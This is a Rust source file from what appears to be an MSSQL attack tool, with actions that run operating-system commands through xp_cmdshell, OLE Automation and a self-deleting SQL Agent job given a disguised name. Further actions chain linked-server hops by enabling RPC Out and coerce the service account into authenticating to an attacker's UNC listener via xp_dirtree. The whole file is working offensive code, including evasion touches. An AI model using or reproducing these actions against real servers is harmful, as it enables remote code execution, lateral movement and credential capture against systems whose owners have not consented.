//! Code-execution and configuration actions. Everything here mutates server
//! state, so statements travel in `EXEC ... AT` mode when a chain is
//! declared; each intermediate link must have RPC Out enabled first (see
//! [`EnableRpc`]).

use anyhow::{bail, Result};
use async_trait::async_trait;
use log::{info, warn};

use super::Action;
use crate::context::QueryContext;

/// Escapes a value destined for a single-quoted literal inside an action's
/// own template. Chain-level escalation is the builder's job; this only keeps
/// the innermost literal intact.
fn quote_literal(value: &str) -> String {
    value.replace('\'', "''")
}

async fn set_configure_option(ctx: &mut QueryContext, option: &str, value: u8) -> Result<()> {
    info!("sp_configure '{option}' -> {value}");
    ctx.execute(&format!(
        "EXEC sp_configure 'show advanced options', 1; RECONFIGURE; \
         EXEC sp_configure '{}', {}; RECONFIGURE;",
        quote_literal(option),
        value
    ))
    .await?;
    Ok(())
}

/// Runs an OS command through xp_cmdshell, enabling it first.
pub struct XpCmd;

#[async_trait]
impl Action for XpCmd {
    fn name(&self) -> &'static str {
        "xpcmd"
    }

    fn description(&self) -> &'static str {
        "enable xp_cmdshell and run an OS command"
    }

    fn usage(&self) -> &'static str {
        "<command...>"
    }

    async fn run(&self, ctx: &mut QueryContext, args: &[String]) -> Result<()> {
        if args.is_empty() {
            bail!("xpcmd requires the command to run");
        }
        let command = args.join(" ");

        set_configure_option(ctx, "xp_cmdshell", 1).await?;
        info!("executing through xp_cmdshell");
        ctx.print_query(&format!("EXEC master..xp_cmdshell '{}'", quote_literal(&command)))
            .await
    }
}

/// Runs an OS command through OLE Automation (sp_oacreate wscript.shell).
/// Fire-and-forget: no output comes back from this primitive.
pub struct OleCmd;

#[async_trait]
impl Action for OleCmd {
    fn name(&self) -> &'static str {
        "olecmd"
    }

    fn description(&self) -> &'static str {
        "run an OS command through OLE Automation (no output)"
    }

    fn usage(&self) -> &'static str {
        "<command...>"
    }

    async fn run(&self, ctx: &mut QueryContext, args: &[String]) -> Result<()> {
        if args.is_empty() {
            bail!("olecmd requires the command to run");
        }
        let command = quote_literal(&args.join(" "));

        set_configure_option(ctx, "Ole Automation Procedures", 1).await?;
        info!("spawning through wscript.shell");
        ctx.execute(&format!(
            "DECLARE @shell INT; \
             EXEC sp_oacreate 'wscript.shell', @shell OUTPUT; \
             EXEC sp_oamethod @shell, 'run', null, 'cmd /c {command}'; \
             EXEC sp_oadestroy @shell;"
        ))
        .await?;
        warn!("OLE execution is asynchronous; verify the result out-of-band");
        Ok(())
    }
}

/// Runs an OS command through a transient SQL Agent CmdExec job.
pub struct AgentCmd;

#[async_trait]
impl Action for AgentCmd {
    fn name(&self) -> &'static str {
        "agentcmd"
    }

    fn description(&self) -> &'static str {
        "run an OS command through a transient SQL Agent job"
    }

    fn usage(&self) -> &'static str {
        "<command...>"
    }

    async fn run(&self, ctx: &mut QueryContext, args: &[String]) -> Result<()> {
        if args.is_empty() {
            bail!("agentcmd requires the command to run");
        }
        let command = quote_literal(&args.join(" "));
        let job = "syspolicy_maintenance";

        info!("creating agent job '{job}'");
        ctx.execute(&format!(
            "USE msdb; \
             EXEC dbo.sp_add_job @job_name = '{job}', @delete_level = 3; \
             EXEC dbo.sp_add_jobstep @job_name = '{job}', @step_name = 'run', \
             @subsystem = 'CMDEXEC', @command = '{command}'; \
             EXEC dbo.sp_add_jobserver @job_name = '{job}'; \
             EXEC dbo.sp_start_job @job_name = '{job}';"
        ))
        .await?;
        warn!("agent job started; it deletes itself on completion");
        Ok(())
    }
}

/// Generic sp_configure toggle: `config <option> <0|1>`.
pub struct ConfigureOption;

#[async_trait]
impl Action for ConfigureOption {
    fn name(&self) -> &'static str {
        "config"
    }

    fn description(&self) -> &'static str {
        "toggle an sp_configure option at the final hop"
    }

    fn usage(&self) -> &'static str {
        "<option> <0|1>"
    }

    async fn run(&self, ctx: &mut QueryContext, args: &[String]) -> Result<()> {
        let (option, value) = match args {
            [option, value] => (option, value),
            _ => bail!("config requires an option name and a 0/1 value"),
        };
        let value: u8 = match value.as_str() {
            "0" => 0,
            "1" => 1,
            other => bail!("config value must be 0 or 1, got '{other}'"),
        };
        set_configure_option(ctx, option, value).await
    }
}

/// Flips 'rpc out' on a linked server definition at the final hop, which is
/// what `EXEC ... AT` routing to the *next* hop requires.
pub struct EnableRpc;

#[async_trait]
impl Action for EnableRpc {
    fn name(&self) -> &'static str {
        "rpc"
    }

    fn description(&self) -> &'static str {
        "enable RPC Out on a linked server definition at the final hop"
    }

    fn usage(&self) -> &'static str {
        "<linked-server>"
    }

    async fn run(&self, ctx: &mut QueryContext, args: &[String]) -> Result<()> {
        let link = match args.first() {
            Some(link) => quote_literal(link),
            None => bail!("rpc requires the linked server name"),
        };
        info!("enabling rpc out on '{link}'");
        ctx.execute(&format!(
            "EXEC sp_serveroption @server = '{link}', @optname = 'rpc', @optvalue = 'true'; \
             EXEC sp_serveroption @server = '{link}', @optname = 'rpc out', @optvalue = 'true';"
        ))
        .await?;
        Ok(())
    }
}

/// UNC path coercion through xp_dirtree: the service account authenticates to
/// the listener at the given address.
pub struct DirTree;

#[async_trait]
impl Action for DirTree {
    fn name(&self) -> &'static str {
        "dirtree"
    }

    fn description(&self) -> &'static str {
        "coerce service account auth to a UNC listener via xp_dirtree"
    }

    fn usage(&self) -> &'static str {
        "<listener-host>"
    }

    async fn run(&self, ctx: &mut QueryContext, args: &[String]) -> Result<()> {
        let listener = match args.first() {
            Some(listener) => quote_literal(listener),
            None => bail!("dirtree requires the listener host or IP"),
        };
        info!("coercing auth to \\\\{listener}\\x");
        // The share never needs to exist; the authentication attempt is the point.
        ctx.execute(&format!("EXEC master..xp_dirtree '\\\\{listener}\\x'"))
            .await?;
        Ok(())
    }
}
